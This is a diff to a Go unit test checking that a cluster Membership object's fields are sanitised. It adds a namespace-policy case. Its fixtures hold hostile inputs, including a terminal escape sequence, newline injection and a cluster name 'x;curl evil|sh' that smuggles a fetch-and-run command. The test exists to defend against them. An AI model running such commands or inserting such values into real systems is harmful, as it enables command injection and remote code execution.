@@ -18,8 +18,9 @@ const escape = "\x1b]0;owned\x07"
 
 func TestWhatAMembershipSaysIsMadePlain(t *testing.T) {
 	m := &v1alpha1.Membership{Spec: v1alpha1.MembershipSpec{
-		Host:        v1alpha1.HostIdentity{UID: "u" + escape, Name: "prod\nTaking it over\n  revokes nothing"},
-		ClusterName: "x;curl evil|sh", Grants: []string{"core", "core", "", escape + "storage", strings.Repeat("g", 400)},
+		Host:            v1alpha1.HostIdentity{UID: "u" + escape, Name: "prod\nTaking it over\n  revokes nothing"},
+		NamespacePolicy: v1alpha1.NamespacesAll + escape,
+		ClusterName:     "x;curl evil|sh", Grants: []string{"core", "core", "", escape + "storage", strings.Repeat("g", 400)},
 	}}
 	m.Status.CollectorVersion = strings.Repeat("v", 200)
 	m.Status.Facts = v1alpha1.MemberFacts{KubernetesVersion: "v1.36.3" + escape + strings.Repeat("x", 100), Zones: []string{"a", "a", ""},
@@ -31,7 +32,7 @@ func TestWhatAMembershipSaysIsMadePlain(t *testing.T) {
 	if diff := cmp.Diff([]string{"core", "]0;ownedstorage"}, m.Spec.Grants[:2]); diff != "" || len(m.Spec.Grants) != 3 || len(m.Spec.Grants[2]) > maxGrant {
 		t.Errorf("%s %q", diff, m.Spec.Grants)
 	}
-	if m.Spec.ClusterName != InvalidName || m.Spec.Host.Name != "prod Taking it over revokes nothing" || m.Spec.Host.UID != "u]0;owned" {
+	if m.Spec.ClusterName != InvalidName || m.Spec.NamespacePolicy != "" || m.Spec.Host.Name != "prod Taking it over revokes nothing" || m.Spec.Host.UID != "u]0;owned" {
 		t.Errorf("%+v", m.Spec)
 	}
 	facts := m.Status.Facts
